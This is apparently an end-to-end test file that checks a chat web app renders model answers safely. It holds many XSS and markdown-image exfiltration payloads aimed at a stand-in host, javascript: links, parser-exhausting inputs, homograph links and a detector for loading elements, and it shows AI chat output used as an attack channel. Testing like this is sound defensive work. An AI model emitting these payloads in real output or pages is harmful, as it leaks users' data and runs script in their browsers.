// Whatever a model writes, the page asks no one but its own server, runs nothing, and goes on answering.
import assert from "node:assert/strict";
import { answered, say, stage, thread, ui } from "../support/scene.mjs";

const scene = stage();

/** A host that exists for nobody. Who loads anything from it is in the scene's `faults`. */
const EVIL = "exfil.invalid";

const IMAGES = `
![x](https://${EVIL}/?q=secret) ![x](https://${EVIL}/1 "title") ![x](<https://${EVIL}/a b>) ![x](//${EVIL}/2)
![x](\\\\${EVIL}\\a.png) ![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](HTTPS://${EVIL}/3) ![x](https&colon;//${EVIL}/4)
![x](&#104;ttps://${EVIL}/5) ![x](ht\ttps://${EVIL}/6) ![x](https:/%2f${EVIL}/7) [![x](https://${EVIL}/8)](https://${EVIL}/9)
![x][r] ![r][] ![r] ![![x](https://${EVIL}/10)](https://${EVIL}/11)

[r]: https://${EVIL}/reference "title"

| ![x](https://${EVIL}/12) | ![r] |
|---|---|
| ![x](https://${EVIL}/13) | <img src=https://${EVIL}/14> |

- [ ] ![x](https://${EVIL}/15)
> ![x](https://${EVIL}/16)

[^1]: ![x](https://${EVIL}/17)
`;

const TAGS = [
  `<img src="https://${EVIL}/20">`, `<img srcset="https://${EVIL}/21 2x">`, `<picture><source srcset=//${EVIL}/22></picture>`,
  `<svg><image href="//${EVIL}/23"/></svg>`, `<svg><use href="//${EVIL}/24#x"/></svg>`, `<svg onload=window.__pwned=1>`,
  `<style>@import "//${EVIL}/25"</style>`, `<style>body{background:url(//${EVIL}/26)}</style>`, `<p style="background:url(//${EVIL}/27)">x</p>`,
  `<link rel=stylesheet href=//${EVIL}/28>`, `<link rel=prefetch href=//${EVIL}/29>`, `<link rel=preload as=image href=//${EVIL}/30>`,
  `<link rel=dns-prefetch href=//secret.${EVIL}>`, `<link rel=preconnect href=//${EVIL}>`, `<link rel=prerender href=//${EVIL}/31>`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/32">`, `<base href=//${EVIL}/>`, `<iframe src=//${EVIL}/33></iframe>`,
  `<iframe srcdoc="<img src=//${EVIL}/34>"></iframe>`, `<object data=//${EVIL}/35></object>`, `<embed src=//${EVIL}/36>`,
  `<video src=//${EVIL}/37 poster=//${EVIL}/38 autoplay></video>`, `<audio src=//${EVIL}/39 autoplay></audio>`,
  `<form action=//${EVIL}/40><button>x</button></form>`, `<input type=image src=//${EVIL}/41>`, `<body background=//${EVIL}/42>`,
  `<table background=//${EVIL}/43><tr><td>x</td></tr></table>`, `<a href=//${EVIL}/44 ping=//${EVIL}/45>x</a>`,
  `<script src=//${EVIL}/46></script>`, `<script type=speculationrules>{"prefetch":[{"urls":["//${EVIL}/47"]}]}</script>`,
  `<img src=x onerror=window.__pwned=2>`, `<math href=//${EVIL}/48><mtext><img src=//${EVIL}/49></mtext></math>`,
  `<details open ontoggle=window.__pwned=3>`, `<input autofocus onfocus=window.__pwned=4>`, `<template><img src=//${EVIL}/50></template>`,
  `<noscript><p title="</noscript><img src=//${EVIL}/51>"></noscript>`, `<!--><img src=//${EVIL}/52>-->`, `<br onclick=window.__pwned=5>`,
].join("\n\n");

const LINKS = `
[x](javascript:window.__pwned=6) [x](JaVaScRiPt:window.__pwned=7) [x](java&Tab;script:window.__pwned=8) [x](&#106;avascript:window.__pwned=9)
[x](vbscript:msgbox) [x](data:text/html,<script>window.__pwned=10</script>) [x](javascript&colon;window.__pwned=11) <javascript:window.__pwned=12>
[x](//${EVIL}/60) [x](https://good.test@${EVIL}/61) [x](blob:https://${EVIL}/62) [x](file:///etc/passwd) [x](#m-1) [x](?a=1)
[https://good.test/](https://${EVIL}/63) [good.test](https://xn--gd-hga.invalid/) https://${EVIL}/"><img/src=//${EVIL}/64>

$\\href{javascript:window.__pwned=13}{x}$ $$\\includegraphics{https://${EVIL}/65}$$ \\(\\text{<img src=//${EVIL}/66>}\\)
\\[\\style{background:url(//${EVIL}/67)}{x}\\] $\\unicode{x202E}$ $\\class{x" onclick="window.__pwned=14}{y}$

\`\`\`html
</code></pre><img src=//${EVIL}/68><script>window.__pwned=15</script>
\`\`\`

Turned \u202Eround\u202C, tagged \u{E0073}\u{E0065}\u{E006E}\u{E0064}, parted zero\u200Bwidth.
`;

const DOCUMENTS = { images: IMAGES, tags: TAGS, links: LINKS };

/** What takes parsers and browsers to their limits, 100 kB each. */
const ABYSSES = {
  quotes: "> ".repeat(50_000),
  lists: Array.from({ length: 400 }, (_, i) => `${" ".repeat(2 * i)}- a`).join("\n"),
  emphasis: "*a **b _c ".repeat(10_000),
  brackets: "[".repeat(50_000) + "]".repeat(50_000),
  images: "![".repeat(30_000) + "](x)".repeat(10_000),
  tables: `${"|a".repeat(5_000)}\n${"|-".repeat(5_000)}\n${"|x\n".repeat(25_000)}`,
  formulas: "$\\frac{a}{b}$ ".repeat(7_000),
  code: `\`\`\`js\n${"1 a() 'b' ".repeat(10_000)}`,
};

/** Fails when an answer has an element or an attribute that could load, run or lead anywhere. */
async function assertHarmless(page) {
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  const found = await page.locator(".prose").evaluateAll((all) =>
    all.flatMap((prose) =>
      [...prose.querySelectorAll("*")]
        .filter((element) => {
          const loads = /^(img|picture|source|video|audio|track|script|iframe|frame|object|embed|form|base|meta|link|style|svg)$/i;
          const attributes = [...element.attributes];
          return (
            loads.test(element.tagName) ||
            attributes.some(({ name }) => /^(on.*|style|src|srcset|srcdoc|background|poster|ping|action|formaction|xlink:href|data)$/i.test(name)) ||
            (element.hasAttribute("href") && !(element.tagName === "A" && /^(https?:\/\/|mailto:|#(note|ref)-)/.test(element.getAttribute("href"))))
          );
        })
        .map((element) => element.outerHTML.slice(0, 200)),
    ),
  );
  assert.deepEqual(found, []);
}

/** The page still does what it is told. */
async function assertResponsive(page) {
  await ui.composer(page).fill("still there");
  assert.equal(await ui.composer(page).inputValue(), "still there");
  await ui.composer(page).fill("");
}

for (const [name, document] of Object.entries(DOCUMENTS)) {
  scene(`an answer full of hostile ${name} asks nobody for anything`, {}, async ({ page, call, phone, visit }) => {
    const id = await thread(call, { model: "sim-echo", questions: [] });
    await visit(page, `/chat/${id}`);
    await say(page, document, phone);
    await answered(page);
    await assertHarmless(page);
    await visit(page, `/chat/${id}`);
    await assertHarmless(page);
    // Nothing is fetched late, by an idle callback or by looking at it.
    await page.locator(".prose").last().hover();
    await page.waitForLoadState("networkidle");
    await assertHarmless(page);
    await assertResponsive(page);
  });
}

scene("answers as deep and as wide as they can be leave the page responsive", { devices: ["desktop"], timeout: 240_000 }, async ({ page, call, visit }) => {
  for (const abyss of Object.values(ABYSSES)) {
    const id = await thread(call, { model: "sim-echo", questions: [abyss] });
    await visit(page, `/chat/${id}`);
    await ui.answers(page).first().waitFor();
    await assertHarmless(page);
    await assertResponsive(page);
  }
});

scene("a homograph and a borrowed name say where they lead", { devices: ["desktop"] }, async ({ page, call, visit }) => {
  const id = await thread(call, { questions: [`[https://good.test/](https://${EVIL}/) and [pay](https://\u0440\u0430y.invalid/)`] });
  await visit(page, `/chat/${id}`);
  const hosts = await page.locator(".prose .link-host").allTextContents();
  assert.deepEqual(hosts.map((host) => host.trim()), [`→ ${EVIL}`, "→ xn--y-7sb1c.invalid"]);
});
